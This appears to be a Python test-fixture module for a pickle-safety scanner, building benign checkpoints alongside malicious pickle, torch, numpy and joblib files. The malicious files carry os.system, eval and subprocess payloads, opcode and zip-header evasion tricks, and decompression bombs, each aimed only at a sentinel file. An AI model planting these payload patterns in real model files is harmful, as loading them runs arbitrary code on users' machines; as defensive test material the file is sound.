"""Benign and malicious files for the pickle-safety tests, built at test time.

Every malicious payload, if it ever ran, would create ``sentinel``; the tests
check that scanning, inspecting, migrating and safe loading never create it.
Cases marked ``live`` are proven to be real payloads: a plain unpickler run on
them does create the sentinel.
"""

from __future__ import annotations

import argparse
import http
import io
import json
import os
import pickle
import re
import struct
import subprocess
import sys
import typing
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import torch

# A plain loader of each kind, as a throwaway process runs it to show a payload is live.
PLAIN_LOADERS = {
    "pickle": "import pickle, sys\ntry:\n    pickle.load(open(sys.argv[1], 'rb'))\n"
              "except Exception:\n    pass\n",
    "torch": "import sys, torch\ntry:\n    torch.load(sys.argv[1], weights_only=False)\n"
             "except Exception:\n    pass\n",
}


def run_plain_loader(path: Path, loader: str = "pickle") -> None:
    """Load ``path`` with a plain loader in a throwaway process (its payload may run)."""
    subprocess.run([sys.executable, "-c", PLAIN_LOADERS[loader], str(path)], check=True,
                   timeout=120, capture_output=True)


class Touch:
    """Unpickled by a plain loader, it runs ``touch PATH``: a live payload."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[typing.Any, tuple[str]]:
        return os.system, (f"touch {self.path}",)


@dataclass(frozen=True)
class Case:
    name: str
    path: Path
    verdicts: tuple[str, ...]  # acceptable verdicts
    offender: str | None = None  # the global the scan must name
    live: Callable[[Path], object] | None = None  # a plain loader that runs the payload
    needs: tuple[str, ...] = ()  # for benign needs-allowlist files: the exact list
    category: str = "dangerous"  # the exact class the scan must give the offender


# ------------------------------------------------------------ raw payloads


def _s(text: str) -> bytes:
    """A protocol-0 STRING literal line."""
    return b"S" + repr(text).encode() + b"\n"


def _u(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _sbs(text: str) -> bytes:
    """SHORT_BINSTRING (protocol 1-2)."""
    data = text.encode()
    return b"U" + bytes([len(data)]) + data


def _touch(sentinel: Path) -> str:
    return f"touch {sentinel}"


def _pyopen(sentinel: Path) -> str:
    return f"open({str(sentinel)!r}, 'w').close()"


def raw_payloads(sentinel: Path) -> dict[str, tuple[bytes, str, bool]]:
    """name -> (pickle bytes, offending global, live)."""
    cmd, code = _touch(sentinel), _pyopen(sentinel)
    call_os = b"cos\nsystem\n(" + _s(cmd) + b"tR"
    return {
        "global_os_system": (call_os + b".", "os.system", True),
        "stack_global_posix": (
            b"\x80\x04" + _u("posix") + _u("system") + b"\x93" + _u(cmd) + b"\x85R.",
            "posix.system", True,
        ),
        "builtins_exec": (b"cbuiltins\nexec\n(" + _s(code) + b"tR.", "builtins.exec", True),
        "builtins_eval": (
            b"cbuiltins\neval\n(" + _s(f"__import__('os').system({cmd!r})") + b"tR.",
            "builtins.eval", True,
        ),
        "pkgutil_resolve_name": (
            b"cpkgutil\nresolve_name\n(" + _s("os:system") + b"tR(" + _s(cmd) + b"tR.",
            "pkgutil.resolve_name", True,
        ),
        "getattr_import": (
            b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(" + _s("os") + b"tR" + _s("system")
            + b"tR(" + _s(cmd) + b"tR.",
            "builtins.getattr", True,
        ),
        "subprocess_check_call": (
            b"csubprocess\ncheck_call\n((" + _s("touch") + _s(str(sentinel)) + b"ltR.",
            "subprocess.check_call", True,
        ),
        "cprofile_run": (b"ccProfile\nrun\n(" + _s(code) + b"tR.", "cProfile.run", True),
        "pip_main": (b"cpip\nmain\n(]tR.", "pip.main", False),
        "runpy_run_module": (
            b"crunpy\nrun_module\n(" + _s("x") + b"tR.", "runpy.run_module", False,
        ),
        "importlib_import": (
            b"cimportlib\nimport_module\n(" + _s("os") + b"tR.", "importlib.import_module", False,
        ),
        "code_interact": (b"ccode\ninteract\n(tR.", "code.interact", False),
        "pty_spawn": (b"cpty\nspawn\n(" + _s("sh") + b"tR.", "pty.spawn", False),
        "timeit_timeit": (b"ctimeit\ntimeit\n(" + _s(code) + b"tR.", "timeit.timeit", False),
        "ctypes_cdll": (b"cctypes\nCDLL\n(" + _s("libc.so.6") + b"tR.", "ctypes.CDLL", False),
        "spawnv_passfds": (
            b"cmultiprocessing.util\nspawnv_passfds\n(" + _s("/bin/sh") + b"(ltR.",
            "multiprocessing.util.spawnv_passfds", False,
        ),
        "torch_cpp_extension": (
            b"ctorch.utils.cpp_extension\nload_inline\n(" + _s("x") + _s("") + b"tR.",
            "torch.utils.cpp_extension.load_inline", False,
        ),
        "torch_hub_load": (
            b"ctorch.hub\nload\n(" + _s("evil/repo") + _s("m") + b"tR.", "torch.hub.load", False,
        ),
        "torch_serialization_load": (
            b"ctorch.serialization\nload\n(" + _s("x.pt") + b"tR.",
            "torch.serialization.load", False,
        ),
        "torch_jit_load": (b"ctorch.jit\nload\n(" + _s("x.pt") + b"tR.", "torch.jit.load", False),
        "numpy_load": (
            b"cnumpy.lib.npyio\nload\n(" + _s("x.npy") + b"tR.", "numpy.lib.npyio.load", False,
        ),
        "functools_partial": (
            b"cfunctools\npartial\n(cos\nsystem\n" + _s(cmd) + b"tR)R.", "functools.partial", True,
        ),
        # name tricks
        "dotted_name": (
            b"\x80\x04" + _u("pathlib") + _u("os.system") + b"\x93" + _u(cmd) + b"\x85R.",
            "pathlib.os.system", True,
        ),
        "torch_submodule_attr": (
            b"ctorch.nn.modules.linear\nF\n.", "torch.nn.modules.linear.F", False,
        ),
        "unknown_module": (b"cevilpkg.payload\nrun\n(tR.", "evilpkg.payload.run", False),
        # opcode tricks
        "memo_stack_global": (
            b"\x80\x04" + _u("os") + b"\x94" + _u("system") + b"\x94" + b"00" + b"h\x00h\x01\x93"
            + _u(cmd) + b"\x85R.",
            "os.system", True,
        ),
        "string_stack_global": (
            b"\x80\x04" + _s("os") + _s("system") + b"\x93(" + _s(cmd) + b"tR.", "os.system", True,
        ),
        "inst": (b"(" + _s(cmd) + b"ios\nsystem\n.", "os.system", True),
        "obj": (b"(cos\nsystem\n" + _s(cmd) + b"o.", "os.system", True),
        "popped_call": (call_os + b"0(d.", "os.system", True),
        "appended_pickle": (
            pickle.dumps({"a": 1}, protocol=2) + call_os + b".", "os.system", False,
        ),
        "broken_after_payload": (call_os + b"\xff\xfe garbage", "os.system", True),
        "ext_code": (b"\x80\x02\x82\x01.", "copyreg.extension.1", False),
        "build_on_class": (
            b"\x80\x02cargparse\nNamespace\nN}" + _sbs("__eq__") + b"Ns\x86b.",
            "argparse.Namespace", False,
        ),
        "call_of_computed_object": (
            b"\x80\x02ccollections\nOrderedDict\n)R)R.", "(object computed at load time)",
            False,
        ),
        "nested_loads": (
            b"\x80\x03cpickle\nloads\nC" + bytes([len(call_os) + 1]) + call_os + b".\x85R.",
            "pickle.loads", True,
        ),
    }


# ------------------------------------------------------------ containers


class _Evil:
    def __init__(self, sentinel: Path) -> None:
        self.cmd = _touch(sentinel)

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.cmd,)


def _torch_evil(path: Path, sentinel: Path, **kwargs: object) -> Path:
    torch.save({"w": torch.ones(3), "x": _Evil(sentinel)}, path, **kwargs)  # type: ignore[arg-type]
    return path


def _rewrite_zip(src: Path, dst: Path, edit: Callable[[str, bytes], tuple[str, bytes] | None],
                 extra: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED) -> Path:
    """Copy a zip entry by entry through ``edit`` (None drops the entry)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", method) as zout:
        for info in zin.infolist():
            edited = edit(info.filename, zin.read(info.filename))
            if edited is not None:
                zout.writestr(edited[0], edited[1])
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def _patch_central(path: Path, entry: str, *, flags: int | None = None, crc_xor: int = 0) -> Path:
    data = bytearray(path.read_bytes())
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        name = data[pos + 46 : pos + 46 + name_len].decode()
        if name == entry:
            if flags is not None:
                struct.pack_into("<H", data, pos + 8, flags)
            crc = struct.unpack_from("<I", data, pos + 16)[0]
            struct.pack_into("<I", data, pos + 16, crc ^ crc_xor)
        pos = data.find(b"PK\x01\x02", pos + 4)
    path.write_bytes(bytes(data))
    return path


def _patch_local_name(path: Path, old: str, new: str) -> Path:
    assert len(old) == len(new)
    data = bytearray(path.read_bytes())
    pos = data.find(b"PK\x03\x04" + b"")
    while pos >= 0:
        name_len = struct.unpack_from("<H", data, pos + 26)[0]
        if data[pos + 30 : pos + 30 + name_len] == old.encode():
            data[pos + 30 : pos + 30 + name_len] = new.encode()
            break
        pos = data.find(b"PK\x03\x04", pos + 4)
    path.write_bytes(bytes(data))
    return path


def _npy_object(path: Path, payload: bytes) -> Path:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
                     + payload)
    return path


def _torch_load_unsafe(path: Path) -> object:
    return torch.load(path, weights_only=False)


def _np_load_unsafe(path: Path) -> object:
    with np.load(path, allow_pickle=True) as loaded:
        return {k: loaded[k] for k in loaded.files}


def _pickle_load(path: Path) -> object:
    with open(path, "rb") as fh:
        return pickle.load(fh)


_REVIEW_CASES = frozenset({"torch_submodule_attr", "unknown_module"})


def malicious(root: Path, sentinel: Path) -> list[Case]:
    """Every class of attack from the issue; each must come out unsafe (or malformed)."""
    root.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []
    for name, (data, offender, live) in raw_payloads(sentinel).items():
        path = root / f"{name}.pkl"
        path.write_bytes(data)
        loader = _pickle_load if live else None
        if name in _REVIEW_CASES:  # code of an unknown class or module: reviewed, not denied
            cases.append(Case(name, path, ("needs-review",), offender, loader,
                              category="unknown"))
        else:
            cases.append(Case(name, path, ("unsafe",), offender, loader))
    unsafe = ("unsafe",)
    evil_pt = _torch_evil(root / "evil.pt", sentinel)
    cases.append(Case("torch_zip_reduce", evil_pt, unsafe, "posix.system", _torch_load_unsafe))
    legacy = _torch_evil(root / "legacy.pt", sentinel, _use_new_zipfile_serialization=False)
    cases.append(Case("torch_legacy", legacy, unsafe, "posix.system", _torch_load_unsafe))
    payload = raw_payloads(sentinel)["global_os_system"][0]
    renamed = root / "pytorch_model.bin"
    renamed.write_bytes(payload)
    cases.append(Case("plain_pickle_as_bin", renamed, unsafe, "os.system", _torch_load_unsafe))
    archive = _torch_evil(root / "inner.pt", sentinel).read_bytes()
    nested = root / "nested_archive.pkl"
    nested.write_bytes(b"\x80\x02ctorch.storage\n_load_from_bytes\nB"
                       + struct.pack("<I", len(archive)) + archive + b"\x85R.")
    cases.append(Case("nested_torch_archive", nested, unsafe, "posix.system", _pickle_load))
    cases += _zip_tricks(root, sentinel, payload)
    cases += _numpy_tricks(root, sentinel, payload)
    cases += _exhaustion(root)
    return cases


def _zip_tricks(root: Path, sentinel: Path, payload: bytes) -> list[Case]:
    unsafe, either = ("unsafe",), ("unsafe", "malformed")
    benign = root / "benign_src.pt"
    torch.save({"w": torch.ones(3)}, benign)
    second = _rewrite_zip(benign, root / "second_pkl.pt", lambda n, d: (n, d),
                          extra={"benign_src/extra.pkl": payload})
    prefix = _rewrite_zip(_torch_evil(root / "p.pt", sentinel), root / "prefix.pt",
                          lambda n, d: ("weird prefix/" + n.split("/", 1)[1], d))
    deflated = _rewrite_zip(_torch_evil(root / "d.pt", sentinel), root / "deflated.pt",
                            lambda n, d: (n, d), method=zipfile.ZIP_DEFLATED)
    flagged = _patch_central(_torch_evil(root / "flag.pt", sentinel), "flag/data.pkl",
                             flags=0x0809)
    mismatch = _patch_local_name(_torch_evil(root / "mm.pt", sentinel), "mm/data.pkl",
                                 "mm/data.pkx")
    bad_crc = _patch_central(_torch_evil(root / "crc.pt", sentinel), "crc/data.pkl",
                             crc_xor=1)
    seven = root / "wrapped.7z"
    seven.write_bytes(b"7z\xbc\xaf\x27\x1c\x00\x04" + os.urandom(64))
    truncated = root / "truncated.pt"
    whole = _torch_evil(root / "t.pt", sentinel).read_bytes()
    truncated.write_bytes(whole[: len(whole) - 30])
    return [
        Case("second_pkl_entry", second, unsafe, "os.system"),
        Case("unusual_prefix", prefix, unsafe, "posix.system", _torch_load_unsafe),
        Case("deflated_data_pkl", deflated, unsafe, "posix.system", _torch_load_unsafe),
        Case("zip_flag_bits", flagged, either),
        Case("zip_name_mismatch", mismatch, unsafe, "posix.system", _torch_load_unsafe),
        Case("zip_bad_crc", bad_crc, unsafe, "posix.system", _torch_load_unsafe),
        Case("seven_zip_wrapper", seven, ("malformed",)),
        Case("truncated_zip", truncated, ("malformed",)),
    ]


def _joblib_load(path: Path) -> object:
    import joblib

    return joblib.load(path)


def _numpy_tricks(root: Path, sentinel: Path, payload: bytes) -> list[Case]:
    npy = _npy_object(root / "object.npy", payload)
    npz = root / "object.npz"
    with zipfile.ZipFile(npz, "w") as z:
        z.writestr("ok.npy", _np_bytes(np.arange(3)))
        z.writestr("evil.npy", npy.read_bytes())
    import joblib

    evil_joblib = root / "evil.joblib"
    joblib.dump({"a": np.arange(4.0), "x": _Evil(sentinel)}, evil_joblib)
    return [
        Case("npy_object_array", npy, ("unsafe",), "os.system"),
        Case("npz_object_array", npz, ("unsafe",), "os.system", _np_load_unsafe),
        Case("joblib_payload", evil_joblib, ("unsafe",), "posix.system", _joblib_load),
    ]


def _np_bytes(array: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, array)
    return buf.getvalue()


def _billion_laughs(levels: int = 40) -> bytes:
    out = bytearray(b"\x80\x02]q\x00")
    for i in range(levels):
        out += b"(" + (b"h" + bytes([i])) * 10 + b"lq" + bytes([i + 1])
    return bytes(out + b".")


def _exhaustion(root: Path) -> list[Case]:
    cases = []
    laughs = root / "billion_laughs.pkl"
    laughs.write_bytes(_billion_laughs())
    cases.append(Case("memo_expansion_bomb", laughs, ("malformed",)))
    huge = root / "huge_length.pkl"
    huge.write_bytes(b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"abc.")
    cases.append(Case("huge_length_claim", huge, ("malformed",)))
    long_line = root / "long_literal.pkl"
    long_line.write_bytes(b"L" + b"9" * 200_000 + b"L\n.")
    cases.append(Case("huge_long_literal", long_line, ("malformed",)))
    marks = root / "deep_marks.pkl"
    marks.write_bytes(b"(" * 200_000 + b".")
    cases.append(Case("deep_marks", marks, ("malformed",)))
    bomb = root / "zip_bomb.pt"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("zip_bomb/data.pkl", b"\x80\x03B" + struct.pack("<I", 32 << 20)
                   + bytes(32 << 20) + b".")
    cases.append(Case("zip_bomb", bomb, ("malformed",)))
    return cases


# ---------------------------------------------------------------- benign


class UserConfig:
    """A user's own class: unknown to any allowlist, harmless in fact."""

    def __init__(self) -> None:
        self.lr = 0.1
        self.layers = [4, 4]


# Type hints as configs hold them, in the typing spellings (data here, not annotations):
# each is rebuilt by a call (type(None), typing.List[int]).
_HINTS = {"opt": typing.Optional[int], "none": type(None),  # noqa: UP045
          "lst": typing.List[int], "dct": typing.Dict[str, typing.List[float]],  # noqa: UP006
          "tup": typing.Tuple[int, ...], "gen": list[int], "lit": typing.Literal["a"]}  # noqa: UP006
_HINT_NEEDS = ("_operator.getitem", "typing.Union", "builtins.int", "builtins.type",
               "typing.List", "typing.Dict", "builtins.str", "builtins.float", "typing.Tuple",
               "builtins.Ellipsis", "types.GenericAlias", "builtins.list", "typing.Literal",
               "http.HTTPStatus", "re.RegexFlag")
_NUMPY_NEEDS = ("numpy._core.multiarray._reconstruct", "numpy.ndarray", "numpy.dtype")
_JOBLIB_NEEDS = ("joblib.numpy_pickle.NumpyArrayWrapper", "numpy.ndarray", "numpy.dtype")


def benign(root: Path) -> list[Case]:
    """Ordinary checkpoints: each must be safe or needs-allowlist with the right list."""
    root.mkdir(parents=True, exist_ok=True)
    safe, needs = ("safe",), ("needs-allowlist",)
    model = torch.nn.Sequential(torch.nn.Linear(4, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.ones(1, 4)).sum().backward()
    opt.step()
    files: list[tuple[str, Callable[[Path], object], tuple[str, ...], tuple[str, ...]]] = [
        ("state_dict.pt", lambda p: torch.save(model.state_dict(), p), safe, ()),
        ("mixed_dtypes.pt", lambda p: torch.save({
            "bf16": torch.ones(3, dtype=torch.bfloat16), "i8": torch.arange(4, dtype=torch.int8),
            "b": torch.tensor([True]), "nested": [1, 2.5, "s", None, (3, 4)],
            "c": torch.ones(2, dtype=torch.complex64), "view": torch.arange(10)[2:5],
            "p": torch.nn.Parameter(torch.ones(2)), "size": torch.Size([2, 3]),
            "dev": torch.device("cpu"), "dt": torch.float16, "set": {1, 2}}, p), safe, ()),
        ("legacy.pt", lambda p: torch.save(model.state_dict(), p,
                                           _use_new_zipfile_serialization=False), safe, ()),
        ("training.ckpt", lambda p: torch.save({
            "state_dict": model.state_dict(), "optimizer_states": [opt.state_dict()],
            "epoch": 3, "global_step": 120, "hyper_parameters": {"lr": 1e-3, "name": "m"}}, p),
         safe, ()),
        ("weights.safetensors", _save_safetensors(model), safe, ()),
        ("plain_p2.pkl", lambda p: p.write_bytes(pickle.dumps({"a": [1, 2.0, "x"]}, 2)), safe, ()),
        ("plain_p5.pkl", lambda p: p.write_bytes(pickle.dumps({"a": (1, b"x")}, 5)), safe, ()),
        ("plain_tensors.pkl", lambda p: p.write_bytes(pickle.dumps(
            {"small": torch.ones(3), "big": torch.zeros(50_000)})), needs,
         ("torch.storage._load_from_bytes",)),
        ("numeric.npy", lambda p: np.save(p, np.arange(10.0)), safe, ()),
        ("numeric.npz", lambda p: np.savez(p, a=np.arange(3), b=np.ones(2)), safe, ()),
        ("numpy_extras.pt", lambda p: torch.save({
            "arr": np.arange(3.0), "scalar": np.float32(1.5), "i": np.int64(3),
            "ns": argparse.Namespace(lr=0.1, depth=3)}, p), needs,
         (*_NUMPY_NEEDS, "numpy._core.multiarray.scalar", "argparse.Namespace",
          "numpy.dtypes.Float64DType", "numpy.dtypes.Float32DType", "numpy.dtypes.Int64DType")),
        ("whole_model.pt", lambda p: torch.save(model, p), needs,
         ("torch.nn.modules.container.Sequential", "torch.nn.modules.linear.Linear",
          "torch.nn.modules.activation.ReLU")),
        ("numpy_1x_names.pt", lambda p: _numpy_1x(p), needs,
         ("numpy.core.multiarray._reconstruct", "numpy.ndarray", "numpy.dtype",
          "numpy.dtypes.Int64DType")),
        ("rng_states.pt", lambda p: torch.save({
            "numpy_rng": np.random.default_rng(0), "legacy_rng": np.random.RandomState(1),
            "torch_rng": torch.get_rng_state()}, p), needs,
         ("numpy.random._pickle.__generator_ctor", "numpy.random._pickle.__bit_generator_ctor",
          "numpy.random._pcg64.PCG64", "numpy.random.bit_generator.__pyx_unpickle_SeedSequence",
          "numpy.random.bit_generator.SeedSequence", *_NUMPY_NEEDS,
          "numpy.random._pickle.__randomstate_ctor", "numpy.random._mt19937.MT19937",
          "numpy.dtypes.UInt32DType", "numpy.random.mtrand.RandomState")),
        ("arrays.joblib", lambda p: _joblib(p, compress=0), needs, _JOBLIB_NEEDS),
        ("arrays_z.joblib", lambda p: _joblib(p, compress=3), needs, _JOBLIB_NEEDS),
        ("object.npy", lambda p: np.save(p, np.array([1, "x"], dtype=object)), needs,
         _NUMPY_NEEDS),
        ("type_hints.pt", lambda p: torch.save({"w": torch.ones(2), "hints": _HINTS,
                                                "status": http.HTTPStatus.OK,
                                                "flags": re.IGNORECASE | re.MULTILINE}, p),
         needs, _HINT_NEEDS),
    ]
    cases = []
    for name, write, verdicts, expected in files:
        path = root / name
        write(path)
        cases.append(Case(name, path, verdicts, needs=expected))
    return cases


def _save_safetensors(model: torch.nn.Module) -> Callable[[Path], object]:
    def write(path: Path) -> None:
        from safetensors.torch import save_file

        save_file({k: v.contiguous() for k, v in model.state_dict().items()}, str(path))

    return write


def _joblib(path: Path, compress: int) -> None:
    import joblib

    joblib.dump({"a": np.arange(50.0), "b": np.ones((3, 4), dtype=np.int32)}, path,
                compress=compress)


def _numpy_1x(path: Path) -> None:
    """A checkpoint as numpy 1.x writes it (``numpy.core`` spelling)."""
    tmp = path.with_suffix(".src")
    torch.save({"arr": np.arange(3)}, tmp)
    _rewrite_zip(tmp, path, lambda n, d: (
        n.replace(tmp.stem, path.stem),
        d.replace(b"cnumpy._core.multiarray\n", b"cnumpy.core.multiarray\n"),
    ))
    tmp.unlink()


def user_class_checkpoint(path: Path) -> Path:
    """A legacy-style checkpoint holding a user's class (unknown, but harmless)."""
    model = torch.nn.Linear(3, 2)
    torch.save({"model": model, "config": UserConfig(), "epoch": 7,
                "args": argparse.Namespace(lr=0.01, batch=32)}, path)
    return path


_LIVE_UNDER_TORCH_LOAD = """
import json, os, sys, torch
sentinel, ran = sys.argv[1], {}
for path in sys.argv[2:]:
    try:
        torch.load(path, weights_only=False)
    except Exception:
        pass
    ran[path] = os.path.exists(sentinel)
    if ran[path]:
        os.remove(sentinel)
print(json.dumps(ran))
"""


def payload_runs(path: Path, sentinel: Path) -> bool:
    """Whether loading ``path`` with a plain ``torch.load(weights_only=False)``, in a
    throwaway process, creates ``sentinel`` (removed again)."""
    proof = subprocess.run([sys.executable, "-c", _LIVE_UNDER_TORCH_LOAD, str(sentinel),
                            str(path)], capture_output=True, text=True, timeout=300, check=True)
    return bool(json.loads(proof.stdout.strip().splitlines()[-1])[str(path)])


def live_torch_files(root: Path, sentinel: Path) -> list[Case]:
    """The torch.save-shaped (.pt/.bin) malicious cases, each shown in a throwaway process
    to create ``sentinel`` under a plain ``torch.load(weights_only=False)``."""
    cases = [c for c in malicious(root, sentinel)
             if c.path.suffix in (".pt", ".bin") and c.live is not None]
    proof = subprocess.run([sys.executable, "-c", _LIVE_UNDER_TORCH_LOAD, str(sentinel),
                            *(str(c.path) for c in cases)], capture_output=True, text=True,
                           timeout=300, check=True)
    ran = json.loads(proof.stdout.strip().splitlines()[-1])
    assert all(ran.values()), [path for path, did in ran.items() if not did]
    return cases


# ------------------------------------------------------- unsafe files holding weights


class _EvilCall:
    """A payload pickled as ``subprocess.call(["touch", sentinel])``."""

    def __init__(self, sentinel: Path) -> None:
        self.argv = ["touch", str(sentinel)]

    def __reduce__(self) -> tuple[object, tuple[list[str]]]:
        return subprocess.call, (self.argv,)


class _EvilEval:
    """A payload pickled as ``eval("open(sentinel, 'w').close()")``."""

    def __init__(self, sentinel: Path) -> None:
        self.code = _pyopen(sentinel)

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, (self.code,)


def weights_with(payload: object) -> dict[str, object]:
    """A training checkpoint's shape: weights, a plain value, and ``payload`` beside them."""
    return {"model": {"w": torch.arange(6.0).reshape(2, 3), "b": torch.ones(2)}, "epoch": 3,
            "x": payload}


_PLAIN_PICKLE_LOAD = """
import pickle, sys
with open(sys.argv[1], "rb") as fh:
    pickle.load(fh)
"""


@dataclass(frozen=True)
class UnsafeWeights:
    path: Path
    offender: str  # the dangerous global the scan names


def unsafe_weights(root: Path, sentinel: Path) -> dict[str, UnsafeWeights]:
    """Weights beside an os.system payload in a torch.save zip, a subprocess one in a legacy
    (pre-1.6) torch file, and an eval one in a plain pickle (pickle.dump, protocol 4). Each
    is shown, in a throwaway process, to create ``sentinel`` under its plain loader
    (torch.load(weights_only=False), pickle.load)."""
    root.mkdir(parents=True, exist_ok=True)
    files = {"zip": UnsafeWeights(root / "evil_zip.pt", "posix.system"),
             # protocol 2 writes subprocess.call under its Python 2 name
             "legacy": UnsafeWeights(root / "evil_legacy.pt", "commands.call"),
             "pickle": UnsafeWeights(root / "evil.pkl", "builtins.eval")}
    torch.save(weights_with(_Evil(sentinel)), files["zip"].path)
    torch.save(weights_with(_EvilCall(sentinel)), files["legacy"].path,
               _use_new_zipfile_serialization=False)
    files["pickle"].path.write_bytes(pickle.dumps(weights_with(_EvilEval(sentinel)), protocol=4))
    for kind in ("zip", "legacy"):
        assert payload_runs(files[kind].path, sentinel), kind
    subprocess.run([sys.executable, "-c", _PLAIN_PICKLE_LOAD, str(files["pickle"].path)],
                   capture_output=True, timeout=300, check=True)
    assert sentinel.exists(), "pickle"
    sentinel.unlink()
    return files
